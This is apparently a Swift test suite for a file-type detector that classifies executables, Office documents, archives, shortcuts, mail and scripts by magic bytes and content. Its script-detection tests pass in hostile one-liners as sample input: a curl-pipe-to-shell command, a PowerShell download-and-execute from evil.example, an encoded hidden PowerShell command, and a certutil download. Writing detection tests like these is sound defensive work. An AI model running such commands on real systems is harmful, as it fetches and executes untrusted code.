// SpecimensTests — FileKindTests.swift
// File kind from magic bytes and content: executables, Office (OLE2 and OOXML), archives, shortcuts,
// disk images, documents, e-mail, scripts and text.

import Foundation
import Testing
@testable import Specimens

@Suite struct FileKindTests {
    func kind(_ bytes: [UInt8]) -> FileKind { FileKind.detect(bytes) }
    func kind(_ text: String) -> FileKind { FileKind.detect(Array(text.utf8)) }

    @Test func portableExecutables() throws {
        let gui = FileKind.detect(try Fixtures.data("gui32.exe"))
        #expect(gui.mimeType == "application/vnd.microsoft.portable-executable")
        #expect(gui.label == "PE32 executable (GUI) Intel 80386")
        #expect(FileKind.detect(try Fixtures.data("library64.dll")).label == "PE32+ executable (DLL) (console) x86-64")
        #expect(kind(Array("MZ\u{90}\u{0}".utf8) + [UInt8](repeating: 0, count: 100)).mimeType == "application/x-dosexec")
    }

    @Test func elfAndMachO() {
        var elf = [UInt8](repeating: 0, count: 64)
        elf.replaceSubrange(0..<6, with: [0x7F, 0x45, 0x4C, 0x46, 2, 1])
        elf[16] = 3; elf[18] = 62
        #expect(kind(elf) == FileKind(mimeType: "application/x-sharedlib", label: "ELF 64-bit LSB shared object, x86-64"))
        elf[4] = 1; elf[16] = 2; elf[18] = 40
        #expect(kind(elf) == FileKind(mimeType: "application/x-executable", label: "ELF 32-bit LSB executable, ARM"))

        var macho = [UInt8](repeating: 0, count: 32)
        macho.replaceSubrange(0..<4, with: [0xCF, 0xFA, 0xED, 0xFE])
        macho.replaceSubrange(4..<8, with: [0x0C, 0, 0, 0x01]); macho[12] = 2
        #expect(kind(macho).label == "Mach-O 64-bit arm64 executable")
        var fat: [UInt8] = [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2]
        fat += [0x01, 0, 0, 0x07] + [UInt8](repeating: 0, count: 16) + [0x01, 0, 0, 0x0C] + [UInt8](repeating: 0, count: 16)
        #expect(kind(fat).label == "Mach-O universal binary with 2 architectures: [x86_64, arm64]")
        #expect(kind([0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52]).mimeType == "application/java-vm")
    }

    @Test func officeOpenXML() throws {
        #expect(FileKind.detect(try Fixtures.data("report.docx")).mimeType
                == "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
        let macro = FileKind.detect(try Fixtures.data("macro.xlsm"))
        #expect(macro.mimeType == "application/vnd.ms-excel.sheet.macroEnabled.12")
        #expect(macro.label.contains("macros"))
    }

    @Test func compoundDocuments() {
        #expect(kind(compoundDocument(names: ["WordDocument", "1Table"])).mimeType == "application/msword")
        #expect(kind(compoundDocument(names: ["Workbook", "_VBA_PROJECT_CUR"])).label == "Microsoft Excel 97-2003 workbook, with macros")
        #expect(kind(compoundDocument(names: ["PowerPoint Document"])).mimeType == "application/vnd.ms-powerpoint")
        let msi: [UInt8] = [0x84, 0x10, 0x0C, 0x00, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46]
        #expect(kind(compoundDocument(names: ["\u{4840}\u{3F3F}"], rootCLSID: msi)).mimeType == "application/x-msi")
        #expect(kind(compoundDocument(names: ["__substg1.0_0037001F"])).mimeType == "application/vnd.ms-outlook")
        #expect(kind(Array(compoundDocument(names: ["WordDocument"]).prefix(600))).mimeType == "application/x-ole-storage")
    }

    @Test func archivesAndImages() throws {
        #expect(kind([0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0, 4]).mimeType == "application/x-7z-compressed")
        #expect(kind(Array("Rar!\u{1A}\u{7}\u{1}\u{0}".utf8)).label == "RAR archive, version 5")
        #expect(kind(Array("Rar!\u{1A}\u{7}\u{0}".utf8)).label == "RAR archive, version 4")
        #expect(kind([0x1F, 0x8B, 8, 0]).mimeType == "application/gzip")
        #expect(kind(Array("MSCF\0\0\0\0".utf8)).mimeType == "application/vnd.ms-cab-compressed")
        var iso = [UInt8](repeating: 0, count: 0x8800)
        iso.replaceSubrange(0x8001..<0x8006, with: Array("CD001".utf8))
        #expect(kind(iso).mimeType == "application/x-iso9660-image")
        let lnk: [UInt8] = [0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0x00, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46, 0x9B, 0]
        #expect(kind(lnk) == FileKind(mimeType: "application/x-ms-shortcut", label: "MS Windows shortcut"))
        #expect(kind([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]).mimeType == "image/png")

        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let zip = directory.url.appendingPathComponent("x.zip")
        try InfectedZip.write(entries: [.init(name: "a.txt", bytes: Data("hello".utf8))], to: zip)
        #expect(try FileKind.detect(contentsOf: zip) == FileKind(mimeType: "application/zip", label: "Zip archive data, encrypted"))
    }

    @Test func documents() {
        #expect(kind("%PDF-1.7\n%âãÏÓ\n1 0 obj") == FileKind(mimeType: "application/pdf", label: "PDF document, version 1.7"))
        #expect(kind("{\\rtf1\\ansi\\deff0 {\\fonttbl}}").mimeType == "text/rtf")
        #expect(kind("{\\rtxa\\objdata 0105000002000000").mimeType == "text/rtf")   // exploit RTFs skip "f1"
    }

    @Test func scriptsByShebang() {
        #expect(kind("#!/bin/sh\ncurl http://x | sh\n").mimeType == "text/x-shellscript")
        #expect(kind("#!/usr/bin/env python3\nimport os\n").mimeType == "text/x-python")
    }

    @Test func scriptsByContent() {
        #expect(kind("$c = New-Object Net.WebClient\nIEX($c.DownloadString('http://evil.example/a.ps1'))\n").mimeType
                == "text/x-powershell")
        #expect(kind("powershell -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgA").mimeType == "text/x-powershell")
        #expect(kind("On Error Resume Next\nDim s\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\n").mimeType
                == "text/vbscript")
        #expect(kind("var sh = new ActiveXObject(\"WScript.Shell\");\nsh.Run(String.fromCharCode(99,97,108,99));\n").mimeType
                == "text/javascript")
        #expect(kind("@echo off\r\nset /a n=1\r\ncertutil -urlcache -f http://x/a.exe %TEMP%\\a.exe\r\ngoto end\r\n").mimeType
                == "text/x-msdos-batch")
        #expect(kind("<html><head><HTA:APPLICATION ID=\"x\"></head><script>a()</script></html>").mimeType == "application/hta")
    }

    @Test func markupMailAndText() {
        #expect(kind("<!DOCTYPE html>\n<html><body>請求書</body></html>").mimeType == "text/html")
        #expect(kind("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>").mimeType == "image/svg+xml")
        #expect(kind("<?xml version=\"1.0\"?><note/>").mimeType == "application/xml")
        let mail = "Received: from mx.example.jp\r\nFrom: 経理部 <keiri@example.jp>\r\nTo: a@example.jp\r\nSubject: 請求書\r\n\r\nbody"
        #expect(kind(mail).mimeType == "message/rfc822")
        #expect(kind("just some notes about the incident\n") == FileKind(mimeType: "text/plain", label: "ASCII text"))
        #expect(kind("攻撃の痕跡について\n") == FileKind(mimeType: "text/plain", label: "UTF-8 Unicode text"))
        #expect(kind([0xFF, 0xFE] + Array("hello".utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }).label
                == "UTF-16 Unicode text")
    }

    @Test func binaryAndEmpty() {
        #expect(kind([UInt8]()) == .empty)
        #expect(kind(Generated.xorshift(seed: 7, length: 4096)) == .unknown)
    }

    @Test func hostileInputsDoNotCrash() {
        var random = Xorshift(seed: 99)
        let prefixes: [[UInt8]] = [[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1], Array("PK\u{3}\u{4}".utf8),
                                   Array("PK\u{5}\u{6}".utf8), [0xCA, 0xFE, 0xBA, 0xBE], [0x7F, 0x45, 0x4C, 0x46], Array("MZ".utf8)]
        for prefix in prefixes {
            for length in [0, 1, 7, 30, 64, 600, 3000] {
                for _ in 0..<20 {
                    let bytes = prefix + (0..<length).map { _ in UInt8(truncatingIfNeeded: random.next()) }
                    _ = FileKind.detect(bytes)
                }
            }
        }
        var document = compoundDocument(names: ["WordDocument"])
        for _ in 0..<300 {
            document[Int(random.next() % 1536)] = UInt8(truncatingIfNeeded: random.next())
            _ = FileKind.detect(document)
        }
    }

    /// A minimal OLE2 file with 512-byte sectors: header, one FAT sector, one directory sector.
    func compoundDocument(names: [String], rootCLSID: [UInt8] = [UInt8](repeating: 0, count: 16)) -> [UInt8] {
        var header = [UInt8](repeating: 0, count: 512)
        func put32(_ array: inout [UInt8], _ at: Int, _ value: UInt32) {
            for i in 0..<4 { array[at + i] = UInt8(truncatingIfNeeded: value >> (8 * i)) }
        }
        header.replaceSubrange(0..<8, with: [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1])
        header[0x18] = 0x3E; header[0x1A] = 3; header[0x1C] = 0xFE; header[0x1D] = 0xFF; header[0x1E] = 9; header[0x20] = 6
        put32(&header, 0x2C, 1); put32(&header, 0x30, 1); put32(&header, 0x38, 4096)
        put32(&header, 0x3C, 0xFFFF_FFFE); put32(&header, 0x44, 0xFFFF_FFFE)
        for i in 0..<109 { put32(&header, 0x4C + 4 * i, i == 0 ? 0 : 0xFFFF_FFFF) }
        var fat = [UInt8](repeating: 0xFF, count: 512)
        put32(&fat, 0, 0xFFFF_FFFD); put32(&fat, 4, 0xFFFF_FFFE)
        var directory = [UInt8](repeating: 0, count: 512)
        for (index, name) in (["Root Entry"] + names).prefix(4).enumerated() {
            let at = index * 128
            let units = Array(name.utf16) + [0]
            for (i, unit) in units.enumerated() { directory[at + 2 * i] = UInt8(unit & 0xFF); directory[at + 2 * i + 1] = UInt8(unit >> 8) }
            directory[at + 0x40] = UInt8(units.count * 2)
            directory[at + 0x42] = index == 0 ? 5 : 2
            if index == 0 { directory.replaceSubrange((at + 0x50)..<(at + 0x60), with: rootCLSID) }
        }
        return header + fat + directory
    }
}
